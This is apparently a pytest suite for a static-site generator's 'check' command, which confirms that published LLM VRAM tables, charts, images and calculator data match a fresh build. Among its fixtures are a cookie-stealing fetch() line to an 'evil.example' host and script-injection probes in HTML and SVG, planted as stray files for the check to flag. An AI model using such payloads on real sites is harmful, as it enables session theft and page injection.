"""check: clean sites pass; any changed digit in any table cell, Markdown or HTML, is named; it writes nothing."""

import pytest

from conftest import ROOT, SEED_HTML, SEED_POST, repo_plan, run_cli, snapshot
from generator.site.check import (ParsedTable, compare_one_table, compare_tables, html_tables, markdown_tables,
                             shift_lines)
from generator.site.plan import post_html_path, post_markdown_path


@pytest.fixture(scope="module")
def plan():
    return repo_plan()


def test_check_passes_on_a_fresh_build(built):
    result = run_cli("check")
    assert result.code == 0, result.out
    assert "check: OK" in result.out


def test_check_passes_on_the_committed_site(monkeypatch):
    monkeypatch.chdir(ROOT)
    result = run_cli("check")
    assert result.code == 0, result.out + result.err


TABLE_FILES = sorted(rel for rel, meta in repo_plan().tables.items() if meta)


def test_every_post_in_markdown_and_html_is_mutated(plan):
    posts = {path for post in plan.posts for path in (post_markdown_path(post), post_html_path(post))}
    assert {SEED_POST, SEED_HTML} < posts <= set(TABLE_FILES)


def _cell_digit_positions(line, every_digit):
    """Offsets of digits in the text of the cells of one table line (not in tags or link targets): every
    digit, or the first of each cell. (HTML puts each cell on a line of its own.)"""
    positions, seen_in_cell, in_markup = [], False, False
    for offset, char in enumerate(line):
        if char == "<" or line.startswith("](", offset):
            in_markup = True
        elif in_markup and char in ">)":
            in_markup = False
        elif char == "|" and not in_markup:
            seen_in_cell = False
        elif char.isdigit() and not in_markup and (every_digit or not seen_in_cell):
            positions.append(offset)
            seen_in_cell = True
    return positions


def _mutate(text, line_no, offset):
    lines = text.split("\n")
    line = lines[line_no - 1]
    digit = line[offset]
    lines[line_no - 1] = line[:offset] + str((int(digit) + 1) % 10) + line[offset + 1:]
    return "\n".join(lines)


def _row_snippet(lines, table, row, is_html):
    """The text of one row, framed so the parser reads it as a table of its own: (text, the line of the row's first
    line in that text). HTML: the row's lines (``<tr>`` to ``</tr>``) inside ``<table>``; Markdown: the table's
    header and separator lines, then the row's line."""
    if is_html:
        last = max([row.line] + row.cell_lines) + 1  # the line of </tr>
        return "\n".join(["<table>"] + lines[row.line - 1:last]) + "\n</table>", 2
    return "\n".join([lines[table.line - 1], lines[table.line], lines[row.line - 1]]), 3


@pytest.mark.parametrize("rel", TABLE_FILES)
def test_a_changed_digit_in_any_cell_is_caught(plan, rel):
    """Each numeric cell of every published table has a digit changed; check must name exactly that cell.

    The seed post (Markdown and HTML) gets every digit of every cell changed, one at a time; the bigger pages
    one digit per cell. To keep this linear in the size of a page, only the row holding the change is parsed again
    (check's own parser, on the changed bytes of that row), and put in place of its row in the table parsed from
    the fresh build; the whole table is then compared, as check compares it, and must give exactly one finding
    naming that cell. (Re-parsing the whole table for each change made the big pages' tables quadratic: a minute.)
    """
    is_html = rel.endswith(".html")
    parse = html_tables if is_html else markdown_tables
    every_digit = rel in (SEED_POST, SEED_HTML)
    expected_text = plan.files[rel].decode("utf-8")
    meta = plan.tables[rel]
    assert compare_tables(rel, expected_text, expected_text, meta) == []
    lines = expected_text.split("\n")
    expected_tables = parse(expected_text)
    assert len(expected_tables) == len(meta)
    mutated_cells = 0
    for table, table_meta in zip(expected_tables, meta):
        for index, row in enumerate(table.rows[1:], start=1):
            snippet, first = _row_snippet(lines, table, row, is_html)
            # The unchanged row, parsed alone, is the row parsed with its table.
            alone = shift_lines(parse(snippet)[0], row.line - first).rows[-1]
            assert (alone.line, alone.cells, alone.cell_lines) == (row.line, row.cells, row.cell_lines)
            for line_no in sorted(set(row.cell_lines or [row.line])):
                for offset in _cell_digit_positions(lines[line_no - 1], every_digit):
                    published = parse(_mutate(snippet, line_no - row.line + first, offset))
                    assert len(published) == 1 and len(published[0].rows) == (1 if is_html else 2)
                    changed = shift_lines(published[0], row.line - first).rows[-1]
                    whole = ParsedTable(table.line, table.rows[:index] + [changed] + table.rows[index + 1:])
                    findings = compare_one_table(rel, whole, table, table_meta)
                    assert len(findings) == 1, (line_no, offset, findings)
                    assert findings[0].startswith(f"{rel}:{line_no}: table {table_meta.name}, row ")
                    assert ", formulas give " in findings[0]
                    mutated_cells += 1
    assert mutated_cells >= sum(1 for t in meta for r in t.rows for c in r.cells if any(ch.isdigit() for ch in c.text))


def test_mismatch_message_names_table_row_column_and_values(built):
    post = built / "site" / SEED_POST
    text = post.read_text(encoding="utf-8")
    post.write_text(text.replace("| 7 | 14 | 4000 | 3.61 | 17.61 |", "| 7 | 14 | 4000 | 3.61 | 17.62 |"),
                    encoding="utf-8")
    result = run_cli("check")
    assert result.code == 1
    line = text.split("\n").index("| 7 | 14 | 4000 | 3.61 | 17.61 |") + 1
    assert (f"site/{SEED_POST}:{line}: table context, row Qwen2-7B-Instruct, 4000 tokens, column 总计需要显存（G）: "
            "published 17.62, formulas give 17.61") in result.out
    assert "+| 7 | 14 | 4000 | 3.61 | 17.61 |" in result.out  # and the unified diff
    assert "python -m generator build" in result.out


def test_check_writes_nothing(built):
    post = built / "site" / SEED_POST
    post.write_text(post.read_text(encoding="utf-8").replace("144.56", "144.57"), encoding="utf-8")
    before = snapshot(built / "site")
    assert run_cli("check").code == 1
    assert snapshot(built / "site") == before


def test_check_reports_a_prose_change_as_a_diff(built):
    post = built / "site" / SEED_POST
    post.write_text(post.read_text(encoding="utf-8").replace("参考资料", "参考"), encoding="utf-8")
    result = run_cli("check")
    assert result.code == 1
    assert "-## 参考" in result.out and "+## 参考资料" in result.out


def test_check_reports_missing_and_stale_files(built):
    (built / "site" / "index.html").unlink()
    result = run_cli("check")
    assert result.code == 1 and "site/index.html: missing" in result.out


def test_check_reports_a_table_it_cannot_account_for(built):
    extra = built / "site" / "_posts" / "2024-10-01-extra.md"
    extra.write_text("---\ntitle: x\n---\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n", encoding="utf-8")
    result = run_cli("check")
    assert result.code == 1
    assert "site/_posts/2024-10-01-extra.md:5: a table the build does not make" in result.out


def test_check_reports_an_extra_table_in_a_post(built):
    post = built / "site" / SEED_POST
    post.write_text(post.read_text(encoding="utf-8") + "\n| x | y |\n| --- | --- |\n| 1 | 2 |\n", encoding="utf-8")
    result = run_cli("check", str(post))
    assert result.code == 1
    assert "a table the build does not make (header: x | y)" in result.out


def test_check_a_post_in_a_jekyll_repo(built, tmp_path):
    jekyll = tmp_path / "blog" / "_posts"
    jekyll.mkdir(parents=True)
    text = (built / "site" / SEED_POST).read_text(encoding="utf-8")
    # Prose may differ in a blog's copy; only the tables must match the formulas.
    published = jekyll / "2024-09-03-how-much-vram-is-required-for-llm-inference.md"
    published.write_text(text.replace("## 参考资料", "## References"), encoding="utf-8")
    assert run_cli("check", str(published)).code == 0
    published.write_text(text.replace("| 9 | 18 |", "| 9 | 19 |"), encoding="utf-8")
    result = run_cli("check", str(published))
    assert result.code == 1
    assert "table context, row glm-4-9b-chat, 4000 tokens, column 加载显存（G）: published 19, formulas give 18" \
        in result.out


def test_check_an_unknown_post_is_bad_input(built, tmp_path):
    other = tmp_path / "2020-01-01-other.md"
    other.write_text("---\ntitle: x\n---\n", encoding="utf-8")
    result = run_cli("check", str(other))
    assert result.code == 2
    assert "not a post that content/ builds" in result.err


def test_check_without_a_site_is_bad_input(project):
    result = run_cli("check", "--site", "nowhere")
    assert result.code == 2 and "nowhere: site folder not found" in result.err


def test_check_catches_stale_numbers_after_data_changes(built):
    models = built / "content" / "models.yaml"
    text = models.read_text(encoding="utf-8")
    models.write_text(text.replace("params_b: 22\n", "params_b: 23\n"), encoding="utf-8")
    result = run_cli("check")
    assert result.code == 1
    assert "row Codestral-22B-v0.1, 4000 tokens, column 模型参数（B）: published 22, formulas give 23" in result.out


def test_check_reports_a_changed_workbook_without_dumping_bytes(built):
    from generator.site.plan import SEED_WORKBOOK
    workbook = built / "site" / SEED_WORKBOOK
    data = bytearray(workbook.read_bytes())
    data[-10] ^= 1
    workbook.write_bytes(bytes(data))
    result = run_cli("check")
    assert result.code == 1
    assert f"site/{SEED_WORKBOOK}: differs from a fresh build" in result.out
    assert "@@" not in result.out


def test_a_stale_chart_is_named_down_to_the_data_point(built):
    chart = built / "site" / "images" / "charts" / "llm-inference-vram-guide-memory-vs-context.svg"
    text = chart.read_text(encoding="utf-8")
    from generator.tables.svg import chart_data
    point = chart_data(text)["series"][0]["points"][0]
    old = f"[{point[0]},{point[1]}]"
    assert old in text
    chart.write_text(text.replace(old, f"[{point[0]},{point[1] + 1}]", 1), encoding="utf-8")
    result = run_cli("check")
    assert result.code == 1
    assert (f"site/images/charts/llm-inference-vram-guide-memory-vs-context.svg: chart data series[0].points[0][1]: "
            f"published {point[1] + 1}, formulas give {point[1]}") in result.out


def test_a_stale_header_image_is_caught(built):
    from generator.site.plan import SEED_HEADER_IMAGE
    image = built / "site" / SEED_HEADER_IMAGE
    models = built / "content" / "models.yaml"
    models.write_text(models.read_text(encoding="utf-8").replace("params_b: 22\n", "params_b: 23\n"), encoding="utf-8")
    before = image.read_bytes()
    result = run_cli("check")
    assert result.code == 1
    assert f"site/{SEED_HEADER_IMAGE}: chart data values[4]: published 44, formulas give 46" in result.out
    assert image.read_bytes() == before
    assert run_cli("build").code == 0 and run_cli("check").code == 0
    assert image.read_bytes() != before


def test_a_changed_value_in_the_calculator_data_is_named(built):
    import json
    data_file = built / "site" / "calculator" / "estimator-data.json"
    data = json.loads(data_file.read_text(encoding="utf-8"))
    gpu = data["gpus"][0]
    key = next(k for k, v in gpu.items() if isinstance(v, int) and not isinstance(v, bool))
    gpu[key] += 1
    data_file.write_text(json.dumps(data, ensure_ascii=False, sort_keys=True), encoding="utf-8")
    result = run_cli("check")
    assert result.code == 1
    assert f"site/calculator/estimator-data.json: gpus[0].{key}: published {gpu[key]}, formulas give {gpu[key] - 1}" \
        in result.out, result.out[:2000]


# -- files the build does not make, images by their bytes, unreadable files ---------------------------------------

@pytest.mark.parametrize("rel, data", [
    ("calculator/extra.js", b"fetch('https://evil.example/?' + document.cookie)\n"),
    ("posts/extra.html", b"<html><body><script>alert(1)</script></body></html>\n"),
    ("_posts/2026-12-01-extra.md", b"---\nlayout: post\ntitle: not ours\n---\n\nHello.\n"),
    ("images/charts/extra.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>\n"),
    ("models/deeper/page.html", b"<p>a folder below one of ours is ours too</p>\n"),
    ("_layouts/evil.html", b"{{ site }}\n"),
])
def test_a_file_the_build_does_not_make_in_its_folders_is_reported(built, rel, data):
    path = built / "site" / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    before = snapshot(built / "site")
    result = run_cli("check")
    assert result.code == 1
    owner = next(f for f in ("calculator", "posts", "_posts", "images/charts", "models", "_layouts")
                 if rel.startswith(f + "/"))
    assert (f"site/{rel}: a file the build does not make, in a folder it writes ({owner}/); remove it, or put the "
            "file outside the generator's folders") in result.out.splitlines()
    assert snapshot(built / "site") == before
    assert run_cli("build").code == 0 and path.read_bytes() == data  # not ours to delete: reported, left alone


def test_a_symlink_in_the_generators_folders_is_reported(built):
    (built / "site" / "posts" / "linked").symlink_to(built / "content", target_is_directory=True)
    result = run_cli("check")
    assert result.code == 1 and "site/posts/linked: a file the build does not make" in result.out


def test_the_users_own_files_beside_the_generators_folders_pass(built):
    (built / "site" / "CNAME").write_text("blog.example\n", encoding="utf-8")
    (built / "site" / "vendor").mkdir()  # assets/ is the generator's own (its stylesheet and table script)
    (built / "site" / "vendor" / "lib.js").write_text("console.log(1)\n", encoding="utf-8")
    (built / "site" / "images" / "logo.svg").write_text("<svg/>\n", encoding="utf-8")  # images/ itself is not ours
    assert run_cli("check").code == 0


def _png_with_a_changed_pixel(png: bytes) -> bytes:
    """The same PNG, its pixel data changed (re-compressed, valid CRCs), its text chunks (and embedded data) kept."""
    import struct
    import zlib
    from generator.tables.svg import PNG_SIGNATURE
    chunks, offset = [], len(PNG_SIGNATURE)
    while offset < len(png):
        length, kind = struct.unpack(">I4s", png[offset:offset + 8])
        chunks.append([kind, png[offset + 8:offset + 8 + length]])
        offset += 12 + length
    idat = b"".join(body for kind, body in chunks if kind == b"IDAT")
    pixels = bytearray(zlib.decompress(idat))
    pixels[len(pixels) // 2] ^= 0xFF
    first = next(i for i, c in enumerate(chunks) if c[0] == b"IDAT")
    chunks = [c for c in chunks if c[0] != b"IDAT"]
    chunks.insert(first, [b"IDAT", zlib.compress(bytes(pixels), 9)])
    return PNG_SIGNATURE + b"".join(struct.pack(">I", len(body)) + kind + body
                                    + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF) for kind, body in chunks)


def test_a_header_image_with_changed_pixels_but_the_same_data_fails_check_and_is_redrawn(built, tmp_path):
    from generator.tables.svg import png_chart_data
    from generator.site.plan import SEED_HEADER_IMAGE
    image = built / "site" / SEED_HEADER_IMAGE
    original = image.read_bytes()
    tampered = _png_with_a_changed_pixel(original)
    assert tampered != original and png_chart_data(tampered) == png_chart_data(original)
    image.write_bytes(tampered)
    result = run_cli("check")
    assert result.code == 1
    assert f"site/{SEED_HEADER_IMAGE}: differs from a fresh build; run `python -m generator build`" in result.out
    assert image.read_bytes() == tampered  # check writes nothing
    assert run_cli("build").code == 0
    assert run_cli("build", "--out", str(tmp_path / "fresh")).code == 0
    assert image.read_bytes() == (tmp_path / "fresh" / SEED_HEADER_IMAGE).read_bytes() == original
    assert run_cli("check").code == 0


@pytest.mark.parametrize("rel, damage", [
    ("images/charts/llm-inference-vram-guide-memory-vs-context.svg", lambda data: b""),
    ("images/charts/llm-inference-vram-guide-memory-vs-context.svg", lambda data: data[: len(data) // 2]),
    ("images/charts/llm-inference-vram-guide-memory-vs-context.svg", lambda data: b"\xff\xfe\0garbage"),
    ("images/2024/LLMInferenceVRAMCalculator/how-much-vram-is-required-for-llm-inference.png",
     lambda data: data[: len(data) // 2]),
    ("images/2024/LLMInferenceVRAMCalculator/how-much-vram-is-required-for-llm-inference.png", lambda data: b""),
    ("images/2024/LLMInferenceVRAMCalculator/基于Qwen2效率评估计算大模型推理需要的显存.xlsx",
     lambda data: b"PK\x03\x04 not a workbook"),
    ("calculator/estimator-data.json", lambda data: b"[" * 100000),
    ("calculator/estimator-data.json", lambda data: b""),
    ("posts/how-much-vram-is-required-for-llm-inference.html", lambda data: b"<table><tr><td><![if x]>\xff"),
], ids=["emptied-svg", "truncated-svg", "binary-svg", "truncated-png", "emptied-png", "bad-xlsx", "deep-json",
        "emptied-json", "broken-html"])
def test_a_damaged_file_is_a_mismatch_naming_it_never_a_crash(built, rel, damage):
    path = built / "site" / rel
    path.write_bytes(damage(path.read_bytes()))
    before = snapshot(built / "site")
    result = run_cli("check")
    assert result.code == 1, result.err
    assert any(line.startswith(f"site/{rel}:") for line in result.out.splitlines()), result.out[-3000:]
    assert result.err == ""
    assert snapshot(built / "site") == before
    assert run_cli("build").code == 0 and run_cli("check").code == 0


def test_a_fifo_where_a_page_belongs_hangs_neither_check_nor_build(built):
    import os
    page = built / "site" / "index.html"
    page.unlink()
    os.mkfifo(page)
    result = run_cli("check")
    assert result.code == 1 and "site/index.html: missing" in result.out
    assert run_cli("build").code == 0 and page.is_file() and run_cli("check").code == 0
